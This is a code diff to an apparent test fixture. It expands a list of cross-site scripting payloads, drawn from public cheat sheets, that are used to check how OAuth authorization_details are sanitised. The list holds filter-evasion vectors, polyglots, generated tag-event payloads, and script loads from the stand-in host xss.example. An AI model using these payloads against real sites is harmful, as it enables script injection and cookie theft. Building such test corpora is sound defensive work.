@@ -1,6 +1,8 @@
 // Hostile strings a third-party app could put in authorization_details, as keys and values:
-// classic injection vectors for element content, attributes, URLs and template syntax.
-export const XSS_PAYLOADS = [
+// classic injection vectors for element content, attributes, URLs and template syntax, from the
+// well-known public lists (the OWASP / RSnake XSS filter evasion cheat sheet, PortSwigger's XSS
+// cheat sheet tag x event vectors, PayloadsAllTheThings' polyglots and filter bypasses).
+const CLASSIC = [
   '<script>alert(1)</script>',
   '"><script>alert(1)</script>',
   "'><script>alert(1)</script>",
@@ -62,4 +64,131 @@ export const XSS_PAYLOADS = [
   '<template><script>alert(1)</script></template>',
   '\u003cscript\u003ealert(1)\u003c/script\u003e',
   '<select><option><img src=x onerror=alert(1)></option></select>',
+];
+
+/** The OWASP (RSnake) filter evasion cheat sheet's vectors, as commonly listed. */
+const FILTER_EVASION = [
+  "<SCRIPT>alert('XSS');</SCRIPT>",
+  "'';!--\"<XSS>=&{()}",
+  '<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>',
+  '<IMG SRC="javascript:alert(\'XSS\');">',
+  "<IMG SRC=javascript:alert('XSS')>",
+  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
+  '<IMG SRC=javascript:alert(&quot;XSS&quot;)>',
+  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
+  '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>',
+  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
+  '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>',
+  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
+  '<IMG SRC="jav\tascript:alert(\'XSS\');">',
+  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
+  '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
+  '<IMG SRC="jav&#x0D;ascript:alert(\'XSS\');">',
+  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
+  '<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>',
+  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
+  '<<SCRIPT>alert("XSS");//<</SCRIPT>',
+  '<SCRIPT SRC=http://xss.example/xss.js?< B >',
+  '<IMG SRC="javascript:alert(\'XSS\')"',
+  '<iframe src=http://xss.example/scriptlet.html <',
+  "\\\";alert('XSS');//",
+  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
+  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
+  '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
+  '<IMG DYNSRC="javascript:alert(\'XSS\')">',
+  '<IMG LOWSRC="javascript:alert(\'XSS\')">',
+  '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
+  '<BGSOUND SRC="javascript:alert(\'XSS\');">',
+  '<BR SIZE="&{alert(\'XSS\')}">',
+  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
+  "<STYLE>@import'http://xss.example/xss.css';</STYLE>",
+  '<META HTTP-EQUIV="Link" Content="<http://xss.example/xss.css>; REL=stylesheet">',
+  '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">',
+  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
+  '<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert(\'XSS\');">',
+  '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
+  '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
+  '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>',
+  '<TABLE BACKGROUND="javascript:alert(\'XSS\')">',
+  '<TABLE><TD BACKGROUND="javascript:alert(\'XSS\')">',
+  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
+  '<DIV STYLE="background-image:\\0075\\0072\\006C\\0028\'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029\'\\0029">',
+  '<DIV STYLE="width: expression(alert(\'XSS\'));">',
+  '<STYLE>@im\\port\'\\ja\\vasc\\ript:alert("XSS")\';</STYLE>',
+  '<STYLE TYPE="text/javascript">alert(\'XSS\');</STYLE>',
+  '<STYLE>.XSS{background-image:url("javascript:alert(\'XSS\')");}</STYLE><A CLASS=XSS></A>',
+  '<BASE HREF="javascript:alert(\'XSS\');//">',
+  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.example/scriptlet.html"></OBJECT>',
+  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
+  '<SCRIPT a=">" SRC="http://xss.example/xss.js"></SCRIPT>',
+  '<SCRIPT a=`>` SRC="http://xss.example/xss.js"></SCRIPT>',
+  '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="http://xss.example/xss.js"></SCRIPT>',
+  '<A HREF="http://0x42.0x0000066.0x7.0x93/">XSS</A>',
+  '<A HREF="//xss.example">XSS</A>',
+  '<A HREF="javascript:document.location=\'http://xss.example/\'">XSS</A>',
+  '<IMG SRC=# onmouseover="alert(\'xxs\')">',
+  '<IMG SRC= onmouseover="alert(\'xxs\')">',
+  '<IMG onmouseover="alert(\'xxs\')">',
+  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
+  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
+  "<svg/onload=alert('XSS')>",
+  "<BODY ONLOAD=alert('XSS')>",
+  '<IMG SRC="livescript:[code]">',
+  '<IMG SRC="mocha:[code]">',
+];
+
+/** Polyglots: one string meant to break out of many contexts at once. */
+const POLYGLOTS = [
+  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e',
+  '\';alert(String.fromCharCode(88,83,83))//\';alert(String.fromCharCode(88,83,83))//";alert(String.fromCharCode(88,83,83))//";alert(String.fromCharCode(88,83,83))//--></SCRIPT>">\'><SCRIPT>alert(String.fromCharCode(88,83,83))</SCRIPT>',
+  '\'">><marquee><img src=x onerror=confirm(1)></marquee>"></plaintext\\></|\\><plaintext/onmouseover=prompt(1)><script>prompt(1)</script>@gmail.com<isindex formaction=javascript:alert(/XSS/) type=submit>\'-->"></script><script>alert(1)</script>"><img/id="confirm&lpar;1)"/alt="/"src="/"onerror=eval(id&%23x29;>\'">',
+  'javascript://\'/</title></style></textarea></script>--><p" onclick=alert()//>*/alert()/*',
+  'javascript://--></script></title></style>"/</textarea>*/<alert()/*\' onclick=alert()//>a',
+  'javascript://</title>"/</script></style></textarea/-->*/<alert()/*\' onclick=alert()//>/',
+  'javascript://</title></style></textarea>--></script><a"//\' onclick=alert()//>*/alert()/*',
+  'javascript://\'//" --></textarea></style></script></title><b onclick= alert()//>*/alert()/*',
+  'javascript:alert()//--></script></textarea></style></title><a"//\' onclick=alert()//>*/alert()/*',
+  '--></script></title></style>"/</textarea><a\' onclick=alert()//>*/alert()/*',
+  '/</title/\'/</style/</script/</textarea/--><p" onclick=alert()//>*/alert()/*',
+  "javascript:/*--></title></style></textarea></script></xmp><details/open/ontoggle='+/`/+/\"/+/onmouseover=1/+/[*/[]/+alert(/@PortSwiggerRes/)//'>",
+  '" onclick=alert(1)//<button \' onclick=alert(1)//> */ alert(1)//',
+];
+
+// PortSwigger's cheat sheet pairs tags with the events that fire without user interaction.
+const AUTO_EVENTS: [string, string][] = [
+  ['img src=x', 'onerror'],
+  ['svg', 'onload'],
+  ['body', 'onload'],
+  ['body', 'onpageshow'],
+  ['iframe', 'onload'],
+  ['style', 'onload'],
+  ['input autofocus', 'onfocus'],
+  ['select autofocus', 'onfocus'],
+  ['textarea autofocus', 'onfocus'],
+  ['keygen autofocus', 'onfocus'],
+  ['details open', 'ontoggle'],
+  ['video src=x', 'onerror'],
+  ['audio src=x', 'onerror'],
+  ['video><source', 'onerror'],
+  ['object data=x', 'onerror'],
+  ['marquee', 'onstart'],
+  ['svg><animate attributeName=x dur=1s', 'onbegin'],
+  ['svg><set attributeName=x dur=1s', 'onend'],
+  ['link rel=stylesheet href=x', 'onerror'],
+  ['script src=x', 'onerror'],
+  ['image src=x', 'onerror'],
+  ['x tabindex=1 autofocus', 'onfocusin'],
+  ['a id=x tabindex=1', 'onfocus'],
+  ['frameset', 'onload'],
+  ['embed src=x', 'onload'],
+];
+const CALLS = ['alert(1)', 'alert`1`', 'confirm(1)', 'prompt(1)'];
+const TAG_EVENTS = AUTO_EVENTS.flatMap(([tag, event], i) => [
+  `<${tag} ${event}=${CALLS[i % CALLS.length]}>`,
+  `<${tag.toUpperCase()} ${event.toUpperCase()}="${CALLS[(i + 1) % CALLS.length]}">`,
+  `"><${tag}/${event}=${CALLS[(i + 2) % CALLS.length]}>`,
+]);
+
+export const XSS_PAYLOADS = [
+  ...new Set([...CLASSIC, ...FILTER_EVASION, ...POLYGLOTS, ...TAG_EVENTS]),
 ];
